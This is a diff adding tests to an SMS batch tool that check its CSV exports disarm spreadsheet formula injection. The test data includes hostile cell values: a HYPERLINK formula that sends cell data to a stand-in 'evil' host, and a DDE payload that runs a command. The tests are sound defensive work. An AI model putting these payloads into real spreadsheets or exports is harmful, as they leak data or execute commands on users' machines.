@@ -3,10 +3,14 @@
 import csv
 import io
 import json
+import re
 from pathlib import Path
 
 import pytest
+from hypothesis import given
+from hypothesis import strategies as st
 
+from kxsms.domain.cell import disarmed
 from tests.conftest import TOKEN, Done, Run
 from tests.gateway import ScriptedGateway, answer, close
 from tests.ledger.scene import (
@@ -17,6 +21,7 @@ from tests.ledger.scene import (
     people,
     send_csv,
     send_one,
+    taken,
     write_csv,
 )
 
@@ -84,3 +89,91 @@ def test_the_token_is_not_in_the_ledger(run: Run, gateway: ScriptedGateway, code
         assert not [file.name for file in files if secret.encode() in file.read_bytes()]
         assert secret not in run("batch", "export", name).text
     assert run("batch", "show", name, "-v").status == 0
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil/"&A1)',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1)",
+    "\ttab",
+    "  =1+1",
+    "\ufeff=1+1",
+    "＝1+1",
+    "＋1",
+    "－1",
+    "＠x",
+    "'=1",
+    "+86 138",
+    "-1.2.3",
+]
+PLAIN = [
+    "5",
+    "-5",
+    "+5",
+    "-5.50",
+    "+8613800000000",
+    "+86 138-0000-0009",
+    "1.5-",
+    "-.5",
+    "a=b",
+    "'",
+    "'5",
+    "张三",
+]
+
+
+def test_a_spreadsheet_runs_nothing_of_it(run: Run, gateway: ScriptedGateway) -> None:
+    """Neither a cell, nor the name of a column, nor what the gateway says, nor what a phone answers."""
+    cells = [*FORMULAS, *PLAIN]
+    text = io.StringIO()
+    writer = csv.writer(text)
+    writer.writerow(["=name", "mobile", "content"])
+    writer.writerows(
+        (cell, mobile, TEXT) for cell, (mobile, _) in zip(cells, people(len(cells)), strict=True)
+    )
+    Path("people.csv").write_text(text.getvalue(), "utf-8", newline="")
+    gateway.otherwise = answer('{"Code":"0","Message":"=1+1","TaskId":"-1"}')
+    name = send_csv(run).json["batch"]
+    reply = {"Mobile": people(1)[0][0], "Content": "@run", "MoTime": "2099-01-01 00:00:00"}
+    gateway.script = [answer(json.dumps({"Code": "0", "Data": [reply]}))]
+    gateway.otherwise = answer('{"Code":"0","Data":[]}')
+    assert run("mo").status == 0
+
+    table = exported(run("batch", "export", name))
+    exact = exported(run("batch", "export", name, "--plain"))
+
+    assert [row["'=name"] for row in table] == [*(f"'{cell}" for cell in FORMULAS), *PLAIN]
+    facts = ("kxsms_message", "kxsms_task_id", "kxsms_reply")
+    assert [table[0][fact] for fact in facts] == ["'=1+1", "-1", "'@run"]
+    assert [row["=name"] for row in exact] == cells
+    assert [exact[0][fact] for fact in facts] == ["=1+1", "-1", "@run"]
+    for output in ("json", "jsonl"):  # for programs, as ever
+        assert '"=name": "@SUM(1)"' in run("batch", "export", name, "-o", output).text
+
+
+def test_an_export_can_be_sent_again(run: Run, gateway: ScriptedGateway) -> None:
+    """Plain, each text is the same to the last character, also with an apostrophe of its own."""
+    texts = [f"{cell}【科】" for cell in (*FORMULAS, *PLAIN)]
+    rows = [(mobile, text) for (mobile, _), text in zip(people(len(texts)), texts, strict=True)]
+    with Path("people.csv").open("w", encoding="utf-8", newline="") as file:
+        csv.writer(file).writerows([("mobile", "content"), *rows])
+    name = send_csv(run).json["batch"]
+    sent = sorted(taken(gateway))
+    Path("again.csv").write_bytes(run("batch", "export", name, "--plain").out)
+
+    done = send_csv(run, "--again", file="again.csv")
+
+    assert (done.status, sorted(taken(gateway))) == (0, sent)
+    assert len(sent) == len(texts)
+
+
+@given(st.text(st.sampled_from("=+-@＝'\t\r\n \ufeff.5a") | st.characters(codec="utf-8"), max_size=8))
+def test_a_disarmed_cell_is_no_formula_and_tells_what_it_was(cell: str) -> None:
+    made = disarmed(cell)
+    start = made.lstrip(" \t\r\n\ufeff")[:1]
+    assert start not in tuple("=@＝＠")
+    if start in tuple("+-＋－"):
+        assert not re.search(r"[^\W\d]|[(!|=@＝＠]", made)
+    is_marked = made.startswith("'") and disarmed(made[1:]) == made
+    assert (made[1:] if is_marked else made) == cell
